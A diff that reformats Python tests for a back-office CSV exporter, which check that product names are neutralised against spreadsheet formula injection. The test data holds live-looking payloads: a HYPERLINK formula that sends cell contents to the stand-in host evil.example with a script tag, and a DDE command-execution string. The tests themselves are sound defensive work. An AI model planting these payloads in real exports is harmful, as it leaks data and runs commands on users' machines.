@@ -18,8 +18,13 @@ from .support.factories import make_product, make_user
 from .support.signin import sign_in
 
 ROOT = Path(__file__).resolve().parents[1]
-NAMES = ['=HYPERLINK("http://evil.example/?q="&A1,"Open: <script>alert(1)</script>")', '+cmd|" /C calc"!A0',
-         '-2+3', '@SUM(1:1)', "Plain 'mug': <b>safe</b>"]
+NAMES = [
+    '=HYPERLINK("http://evil.example/?q="&A1,"Open: <script>alert(1)</script>")',
+    '+cmd|" /C calc"!A0',
+    '-2+3',
+    '@SUM(1:1)',
+    "Plain 'mug': <b>safe</b>",
+]
 
 
 async def test_the_reorder_list_from_inventory_keeps_every_product_name_as_text(user: User) -> None:
@@ -42,18 +47,33 @@ async def test_the_reorder_list_from_inventory_keeps_every_product_name_as_text(
 def test_the_writer_guards_text_but_not_numbers() -> None:
     text = csv_text(['name', 'change'], [['=1+1', -3], ['@me', '-3'], [None, 2.5], ['\tx', '\ry']])
     assert list(csv.reader(io.StringIO(text, newline=''))) == [
-        ['name', 'change'], ["'=1+1", '-3'], ["'@me", "'-3"], ['', '2.5'], ["'\tx", "'\ry"]]
+        ['name', 'change'],
+        ["'=1+1", '-3'],
+        ["'@me", "'-3"],
+        ['', '2.5'],
+        ["'\tx", "'\ry"],
+    ]
 
 
-WRITES_CSV = re.compile(r'\bcsv\s*\.\s*(writer|DictWriter)\b|\bfrom\s+csv\s+import\b[^\n]*\b(writer|DictWriter)\b'
-                        r'|\.to_csv\s*\(|\bwriterows?\s*\(')
+WRITES_CSV = re.compile(
+    r'\bcsv\s*\.\s*(writer|DictWriter)\b|\bfrom\s+csv\s+import\b[^\n]*\b(writer|DictWriter)\b'
+    r'|\.to_csv\s*\(|\bwriterows?\s*\('
+)
 
 
 def test_no_module_but_the_csv_writer_writes_csv_itself() -> None:
     """A new export must use backoffice/transfer/csv_out.py, or its cells are not guarded against formulas."""
-    sources = [*ROOT.glob('backoffice/**/*.py'), *ROOT.glob('components/**/*.py'), *ROOT.glob('pages/**/*.py'),
-               *ROOT.glob('bench/**/*.py'), ROOT / 'main.py']
-    offenders = [str(path.relative_to(ROOT)) for path in sources
-                 if path.name != 'csv_out.py' and WRITES_CSV.search(path.read_text())]
+    sources = [
+        *ROOT.glob('backoffice/**/*.py'),
+        *ROOT.glob('components/**/*.py'),
+        *ROOT.glob('pages/**/*.py'),
+        *ROOT.glob('bench/**/*.py'),
+        ROOT / 'main.py',
+    ]
+    offenders = [
+        str(path.relative_to(ROOT))
+        for path in sources
+        if path.name != 'csv_out.py' and WRITES_CSV.search(path.read_text())
+    ]
     assert offenders == []
     assert WRITES_CSV.search('writer = csv.writer(buffer)') and WRITES_CSV.search('frame.to_csv(out)')
